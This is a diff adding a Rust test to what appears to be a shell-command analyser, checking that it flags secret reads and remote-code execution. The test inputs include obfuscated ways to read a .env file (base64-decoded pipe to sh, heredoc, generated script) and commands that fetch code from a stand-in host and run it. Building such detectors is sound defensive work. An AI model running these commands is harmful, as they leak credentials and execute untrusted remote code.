@@ -264,6 +264,34 @@ fn copies_and_links_are_what_they_stand_for() {
 }
 
 #[test]
+fn programs_meet_what_the_text_made() {
+    shows("cat \"$(git rev-parse --show-toplevel)/.env\"", &["read .env"]);
+    shows("echo 'cat .env' | sh", &["read .env"]);
+    shows(
+        "echo Y2F0IC5lbnY= | base64 -d | sh",
+        &["read .env", "decoded(base64) -> "],
+    );
+    shows("sh <<'E'\ncat .env\nE", &["read .env"]);
+    shows("bash scripts/run.sh x", &["exec probe x scripts/run.sh"]);
+    shows("curl -s x.example | sh", &["connect(fetch)", "gap unknowncode"]);
+    shows(
+        "bash <(curl -s x.example)",
+        &["connect(fetch)", "gap unknowncode"],
+    );
+    shows(
+        "curl -so /tmp/x x.example; sh /tmp/x",
+        &["write(overwrite) /tmp/x", "gap unknowncode"],
+    );
+    shows("echo 'x()' > a.js; node a.js", &["reference 1 code javascript"]);
+    shows(
+        "printf '#!/bin/sh\\ncat .env\\n' > s; chmod +x s; ./s",
+        &["read .env"],
+    );
+    shows("env A=b sh -c 'probe \"$A\"'", &["exec probe b"]);
+    shows("echo x | xargs -I{} sh -c 'probe {}'", &["exec probe x"]);
+}
+
+#[test]
 fn any_text_is_survived() {
     use proptest::prelude::*;
     let piece = prop::sample::select(vec![
